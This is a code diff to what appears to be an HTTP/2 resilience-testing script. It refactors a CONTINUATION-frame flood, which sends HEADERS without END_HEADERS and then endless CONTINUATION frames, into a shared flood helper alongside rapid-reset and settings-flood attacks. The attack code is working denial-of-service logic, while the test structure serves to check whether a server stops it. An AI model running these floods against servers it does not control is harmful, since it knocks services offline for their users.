@@ -121,16 +121,18 @@ class Connection:
             pass
 
 
-def flood(args, make, name):
-    """Sends `count` units from `make(i)`, reading between batches; reports when the server stopped it."""
+def flood(args, make, name, opening=b"", batch=50):
+    """Sends `opening`, then `count` units from `make(i)`, reading every `batch`; reports when the server stopped it."""
     connection = Connection(args)
     connection.read_frames(0.3)
+    if opening:
+        connection.send(opening)
     sent = 0
     for i in range(args.count):
         if not connection.send(make(i)):
             break
         sent += 1
-        if i % 50 == 49:
+        if i % batch == batch - 1:
             connection.read_frames(0.01)
             if connection.closed:
                 break
@@ -147,22 +149,9 @@ def rapid_reset(args):
 
 
 def continuation(args):
-    connection = Connection(args)
-    connection.read_frames(0.3)
-    connection.send(frame(HEADERS, 0, 1, request_block("GET", "/deepfence/ping")))
-    sent = 0
-    for i in range(args.count):
-        if not connection.send(frame(CONTINUATION, 0, 1, literal("x-pad-%d" % i, "y"))):
-            break
-        sent += 1
-        if i % 10 == 9:
-            connection.read_frames(0.01)
-            if connection.closed:
-                break
-    connection.wait_closed(5)
-    result = {"attack": "continuation", "sent": sent, "of": args.count, "closed": connection.closed, "goaway": connection.goaway}
-    connection.close()
-    return result
+    # A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames.
+    return flood(args, lambda i: frame(CONTINUATION, 0, 1, literal("x-pad-%d" % i, "y")), "continuation",
+                 opening=frame(HEADERS, 0, 1, request_block("GET", "/deepfence/ping")), batch=10)
 
 
 def settings_flood(args):
